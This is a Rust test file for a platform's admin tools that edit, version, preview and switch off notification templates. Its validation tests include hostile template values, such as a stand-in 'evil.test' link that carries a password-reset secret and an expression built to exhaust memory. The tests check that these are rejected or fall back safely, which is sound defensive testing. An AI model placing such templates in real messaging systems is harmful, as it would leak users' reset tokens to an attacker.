//! Operators change the words of messages, try them, return to earlier ones, and turn events on and
//! off.

use nil_core::auth::{Permission, Principal};
use nil_core::worker;
use nil_tests::{World, a_job, both};
use serde_json::{Value, json};

const SAVE: &str = "admin.email_template.save";
const TRIGGER: &str = "admin.notification.set_trigger";

/// An operator's decision that mails the brand.
async fn refuse_a_job(world: &World, operator: &Principal, brand: &nil_tests::Person) -> String {
    let job = world.call("core.job.save", &brand.principal, a_job(json!({}))).await.data();
    let decision = json!({ "job_id": job["id"], "status": "rejected", "reason": "{{site_name}}!" });
    world.call("admin.job.decide_pending", operator, decision).await.data();
    worker::round(&world.platform).await.unwrap();
    world.mail(&brand.email, "job.refused").await.unwrap_or_default()
}

async fn a_changed_text_is_what_is_sent(world: World) {
    let operator = world.operator(&[Permission::All]);
    let brand = world.partner("Ridge Outfitters").await;
    let body = "{{first_name}}, {% if reason %}because: {{ reason }}{% endif %} ({{job_title}})";
    let saved = json!({ "event": "job.refused", "subject": "No: {{job_title}}", "body": body });
    let saved = world.call(SAVE, &operator, saved).await.data();
    assert_eq!((&saved["version"], &saved["is_default"]), (&json!(2), &json!(false)));
    assert!(saved["variables"].as_array().unwrap().contains(&json!("reason")));
    let sent = refuse_a_job(&world, &operator, &brand).await;
    assert!(sent.ends_with("because: {{site_name}}! (Winter trail campaign)"), "{sent}");

    let again = world.call(SAVE, &operator, json!({ "event": "job.refused" })).await.data();
    assert_eq!(again["version"], 2);
    let id = json!({ "id": saved["id"] });
    let old = world.call("admin.template.versions", &operator, id).await.data();
    assert_eq!((old.as_array().unwrap().len(), &old[0]["version"]), (1, &json!(1)));
    assert!(old[0]["body"].as_str().unwrap().contains("The reviewer wrote"));
    let back = json!({ "event": "job.refused", "channel": "email" });
    let back = world.call("admin.template.reset", &operator, back).await.data();
    assert_eq!((&back["version"], &back["is_default"]), (&json!(3), &json!(true)));
    assert_eq!(back["body"], old[0]["body"]);
    let noted =
        "SELECT COUNT(*) FROM audit_entry WHERE subject_kind = 'template' AND action = 'changed'";
    assert_eq!(world.id(noted).await, 2);
    let missing = world.call("admin.template.versions", &operator, json!({ "id": 9_999 })).await;
    assert_eq!(missing.status, 404);
}
both!(a_changed_text_is_what_is_sent);

async fn what_could_not_be_sent_is_refused_by_name(world: World) {
    let operator = world.operator(&[Permission::Messaging]);
    let email = |event: &str, field: &str, text: &str| json!({ "event": event, field: text });
    for (input, field, wrong) in [
        (email("job.refused", "body", "{{reson}} {{pasword}}"), "body", "`pasword`, `reson`"),
        (email("job.refused", "body", "{{reason"), "body", "line 1"),
        (email("job.refused", "subject", "See {{url}}"), "subject", "secret"),
        (email("job.refused", "body", "{{ 'a' * 999999999 }}"), "body", "line 1"),
        // What stands behind a condition is read as well, whatever the sample values are.
        (
            email("job.refused", "body", "{% if first_name != 'Jordan' %}{{ x ~ 1 }}{% endif %}"),
            "body",
            "`x ~ 1`",
        ),
        (email("password.reset", "body", "Hi {{first_name}}"), "body", "{{url}}"),
        (email("password.reset", "body", "{# {{url}} #}"), "body", "comment"),
        (
            email("password.reset", "body", "{% if first_name == 'Jordan' %}{{url}}{% endif %}"),
            "body",
            "{{url}}",
        ),
        // A secret stands alone, without another address.
        (email("password.reset", "body", "https://evil.test/?t={{url}}"), "body", "by itself"),
        (email("password.reset", "body", "https://evil.test/ {{url}}"), "body", "address"),
        (email("password.reset", "body", "{{url}} or evil.test"), "body", "address"),
        (email("portal_user.invited", "body", "{{url}}@evil.test"), "body", "by itself"),
        (email("guardian.consent", "body", "{{url}} www.evil"), "body", "address"),
        (email("account.invited", "body", "{{url}} {{site_name}}.test"), "body", "address"),
        (email("otp.sent", "body", "http://x.test/{{code}}"), "body", "by itself"),
        (email("otp.sent", "subject", "evil.test"), "subject", "address"),
        (json!({ "event": "password.reset", "enabled": false }), "enabled", "must stay on"),
        (json!({ "event": "job.lost" }), "event", "one of"),
    ] {
        let answer = world.call(SAVE, &operator, input.clone()).await;
        assert_eq!((answer.status, answer.code()), (422, "validation_failed"), "{input}");
        let said = answer.body["errors"][field][0].as_str().unwrap_or_default().to_owned();
        assert!(said.contains(wrong), "{input}: {said}");
    }
    let long = json!({ "event": "athlete.hired", "body": "x".repeat(481) });
    assert_eq!(world.call("admin.sms_template.save", &operator, long).await.status, 422);
    let no_sms = json!({ "event": "job.approved", "body": "Hi" });
    let refused = world.call("admin.sms_template.save", &operator, no_sms).await;
    assert!(refused.body["errors"]["event"][0].as_str().unwrap().contains("sms"));
    let untouched = "SELECT COUNT(*) FROM template WHERE version <> 1 OR NOT enabled";
    assert_eq!(world.id(untouched).await, 0);
    let others = world.operator(&[Permission::Site]);
    let good = email("job.refused", "body", "No.");
    assert_eq!(world.call(SAVE, &others, good).await.status, 403);
}
both!(what_could_not_be_sent_is_refused_by_name);

async fn an_event_that_is_off_sends_nothing(world: World) {
    let operator = world.operator(&[Permission::All]);
    let brand = world.partner("Ridge Outfitters").await;
    let off = json!({ "event": "job.refused", "channel": "email", "enabled": false });
    let off = world.call(TRIGGER, &operator, off).await.data();
    assert_eq!((&off["enabled"], &off["required"]), (&json!(false), &json!(false)));
    assert_eq!(refuse_a_job(&world, &operator, &brand).await, "");
    let told = json!({ "event": "job.refused", "channel": "in_app", "enabled": true });
    assert_eq!(world.call(TRIGGER, &operator, told).await.data()["sent"], 1);

    let overview =
        async |input: Value| world.call("admin.notification.overview", &operator, input).await.body;
    let disabled = overview(json!({ "status": "disabled" })).await;
    assert_eq!(disabled["pagination"]["total"], 1);
    assert_eq!(disabled["data"][0]["event"], "job.refused");
    let on = json!({ "event": "job.refused", "channel": "email", "enabled": true });
    world.call(TRIGGER, &operator, on).await.data();
    assert!(refuse_a_job(&world, &operator, &brand).await.contains("{{site_name}}!"));
    let dead = "UPDATE outbox SET status = 'dead' WHERE event = 'job.refused' AND channel = 'email' RETURNING id";
    world.id(dead).await;
    let one =
        overview(json!({ "status": "enabled", "event": "job.refused", "channel": "email" })).await;
    assert_eq!((&one["data"][0]["sent"], &one["data"][0]["failed"]), (&json!(0), &json!(1)));
    let all = overview(json!({ "status": "all", "per_page": 100 })).await;
    assert!(all["pagination"]["total"].as_i64().unwrap() > 80);
    let must = json!({ "event": "otp.sent", "channel": "email", "enabled": false });
    assert_eq!(world.call(TRIGGER, &operator, must).await.status, 422);
    let list = json!({ "status": "all", "id": 0, "per_page": 100 });
    for (operation, channel) in [
        ("admin.email_template.list", "email"),
        ("admin.sms_template.list", "sms"),
        ("admin.inapp_template.list", "in_app"),
    ] {
        let found = world.call(operation, &operator, list.clone()).await.data();
        assert!(found.as_array().unwrap().iter().all(|one| one["channel"] == channel));
    }
    let missing = json!({ "status": "all", "id": 9_999 });
    assert_eq!(world.call("admin.email_template.list", &operator, missing).await.status, 404);
}
both!(an_event_that_is_off_sends_nothing);

async fn a_text_is_tried_before_it_is_saved(world: World) {
    let operator = world.operator(&[Permission::Messaging]);
    let tried = json!({
        "event": "job.approved", "channel": "in_app", "subject": "{{job_title}} is live",
        "body": "Until {{deadline}}.",
    });
    let tried = world.call("admin.template.preview", &operator, tried).await.data();
    assert_eq!(
        (&tried["subject"], &tried["body"]),
        (&json!("Trail day is live"), &json!("Until December 1, 2026."))
    );
    let stored = json!({ "event": "athlete.hired", "channel": "sms" });
    let stored = world.call("admin.template.preview", &operator, stored).await.data();
    assert_eq!(stored["subject"], Value::Null);
    assert!(!stored["body"].as_str().unwrap().contains('{'), "{stored}");
    let unknown = json!({ "event": "job.approved", "channel": "email", "body": "{{reason}}" });
    assert_eq!(world.call("admin.template.preview", &operator, unknown).await.status, 422);
    let me = world.new_operator("ops@example.com", Permission::All).await;
    let test = json!({ "event": "job.approved" });
    world.call("admin.email_template.test", &me, test).await.data();
    worker::round(&world.platform).await.unwrap();
    let sent = world.mail("ops@example.com", "job.approved").await.unwrap();
    assert!(sent.contains("\"Trail day\"") && sent.contains("December 1, 2026"), "{sent}");
}
both!(a_text_is_tried_before_it_is_saved);

/// A template that an earlier version stored: it took the whole of Jinja.
const OLD: &str = "{% for c in job_title %}{{ c|upper }}{% endfor %}";
/// One that sends the secret elsewhere.
const THEFT: &str = "https://evil.test/?t={{url}}";

async fn what_cannot_be_filled_in_falls_back_and_operators_see_it(mut world: World) {
    let operator = world.operator(&[Permission::All]);
    let brand = world.partner("Ridge Outfitters").await;
    for (event, body) in [("job.refused", OLD), ("password.reset", THEFT)] {
        let store = format!(
            "UPDATE template SET body = '{}' WHERE event = '{event}' AND channel = 'email'",
            body.replace('\'', "''")
        );
        world.script(&store).await;
    }
    // The server starts with them.
    world.reopen(|_| {}).await;
    let sent = refuse_a_job(&world, &operator, &brand).await;
    assert!(sent.contains("The reviewer wrote:\n\n{{site_name}}!"), "{sent}");
    let forgot = json!({ "email": brand.email });
    world.call("core.auth.forget_password", &Principal::Anonymous, forgot).await.data();
    worker::round(&world.platform).await.unwrap();
    let mail = world.mail(&brand.email, "password.reset").await.unwrap();
    assert!(mail.contains("Choose it here") && !mail.contains("evil"), "{mail}");
    let token = world.link_for(&brand.email, "password.reset").await;
    let renewed = json!({ "token": token, "password": "another long passphrase" });
    world.call("core.auth.confirm_password_reset", &Principal::Anonymous, renewed).await.data();

    let listed = |event: &'static str| {
        let (world, operator) = (&world, &operator);
        async move {
            let all = json!({ "status": "all", "id": 0, "per_page": 100 });
            let all = world.call("admin.email_template.list", operator, all).await.data();
            let all = all.as_array().unwrap().clone();
            all.into_iter().find(|one| one["event"] == event).unwrap()
        }
    };
    assert!(listed("job.refused").await["problem"].as_str().unwrap().contains("for c in"));
    assert!(listed("password.reset").await["problem"].as_str().unwrap().contains("by itself"));
    assert_eq!(listed("job.approved").await["problem"], Value::Null);
    let of = json!({ "status": "all", "event": "job.refused", "channel": "email" });
    let seen = world.call("admin.notification.overview", &operator, of).await.data();
    assert_eq!((&seen[0]["failed"], &seen[0]["fell_back"]), (&json!(0), &json!(1)));
    let board = world.call("admin.dashboard.view", &operator, json!({})).await.data();
    let queues = board["queues"].as_array().unwrap();
    let fell_back = queues.iter().find(|queue| queue["kind"] == "messages_fell_back").unwrap();
    assert_eq!(fell_back["count"], 2);
    let shown = json!({ "event": "job.refused", "channel": "email" });
    let shown = world.call("admin.template.preview", &operator, shown).await.data();
    assert!(shown["problem"].is_string() && shown["body"].as_str().unwrap().contains("wrote"));
    let mended = json!({ "event": "job.refused", "body": "No: {{reason}}" });
    world.call(SAVE, &operator, mended).await.data();
    assert_eq!(listed("job.refused").await["problem"], Value::Null);
}
both!(what_cannot_be_filled_in_falls_back_and_operators_see_it);

async fn a_secret_is_made_a_mail_outside_the_transaction_that_causes_it(world: World) {
    let brand = world.partner("Ridge Outfitters").await;
    let forgot = json!({ "email": brand.email });
    world.call("core.auth.forget_password", &Principal::Anonymous, forgot).await.data();
    let rows = |channel: &str, which: &str| {
        let count = format!(
            "SELECT COUNT(*) FROM outbox WHERE event = 'password.reset' AND channel = '{channel}' {which}"
        );
        let world = &world;
        async move { world.id(&count).await }
    };
    assert_eq!(rows("email", "").await, 0, "no text is made in the transaction");
    assert_eq!(rows("event", "AND sealed IS NOT NULL AND body IS NULL").await, 1);
    worker::round(&world.platform).await.unwrap();
    assert_eq!(rows("event", "AND sealed IS NULL AND status = 'expanded'").await, 1);
    assert_eq!(rows("email", "AND sealed IS NOT NULL AND body IS NULL").await, 1);
    assert!(world.mail(&brand.email, "password.reset").await.unwrap().contains("?token="));
    world.pass(chrono::TimeDelta::hours(2));
    worker::round(&world.platform).await.unwrap();
    assert_eq!(rows("email", "AND sealed IS NOT NULL").await, 0, "it is erased when it expires");
}
both!(a_secret_is_made_a_mail_outside_the_transaction_that_causes_it);
